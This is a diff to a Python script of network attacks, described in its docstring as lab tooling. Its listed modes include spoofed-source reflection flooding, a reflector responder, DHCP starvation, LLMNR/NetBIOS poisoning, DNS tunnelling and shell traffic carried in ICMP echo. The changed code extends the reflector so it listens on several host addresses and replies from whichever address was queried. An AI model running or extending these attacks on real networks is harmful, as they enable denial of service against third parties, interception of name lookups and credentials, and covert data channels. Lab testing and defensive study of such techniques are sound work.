@@ -2,7 +2,7 @@
 """Attacks for the lab that no packaged tool makes.
 
 forge VICTIM PORT HEX SECONDS RATE HOST...   questions to the port of each host, with the victim's address as their source
-reflect PORT SIZE                            answers a datagram at any address of this host with that many bytes
+reflect PORT SIZE [HOST...]                  answers a datagram at these addresses, or any, of this host with that many bytes
 dhcp COUNT RATE                              asks for leases for made-up clients, all from the one hardware address
 poison SECONDS                               says to be whoever is asked for by LLMNR and by the names of NetBIOS
 names COUNT                                  asks for names that nobody has, by LLMNR and NetBIOS
@@ -10,6 +10,7 @@ dnscat RESOLVER DOMAIN SECONDS               polls a server by names that hold b
 ping HOST COUNT PERIOD LEAST MOST            echo requests with that many bytes of a shell's traffic, more or less
 """
 import random
+import select
 import socket
 import struct
 import sys
@@ -27,11 +28,11 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
-def bound(port):
+def bound(port, host="0.0.0.0"):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
-    s.bind(("0.0.0.0", port))
+    s.bind((host, port))
     return s
 
 
@@ -52,11 +53,13 @@ if what == "forge":
         number += 1
         time.sleep(1 / rate)
 elif what == "reflect":
-    s = bound(int(rest[0]))
-    s.setsockopt(socket.IPPROTO_IP, 8, 1)  # IP_PKTINFO, so that an answer comes from the address that was asked
+    sockets = [bound(int(rest[0]), host) for host in rest[2:] or ["0.0.0.0"]]
+    for s in sockets:
+        s.setsockopt(socket.IPPROTO_IP, 8, 1)  # IP_PKTINFO, so that an answer comes from the address that was asked
     while True:
-        _, control, _, peer = s.recvmsg(2048, 64)
-        s.sendmsg([rnd.randbytes(int(rest[1]))], [(socket.IPPROTO_IP, 8, bytes(4) + control[0][2][4:8] + bytes(4))], 0, peer)
+        for s in select.select(sockets, [], [])[0]:
+            _, control, _, peer = s.recvmsg(2048, 64)
+            s.sendmsg([rnd.randbytes(int(rest[1]))], [(socket.IPPROTO_IP, 8, bytes(4) + control[0][2][4:8] + bytes(4))], 0, peer)
 elif what == "dhcp":
     s = bound(68)
     s.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")  # SO_BINDTODEVICE
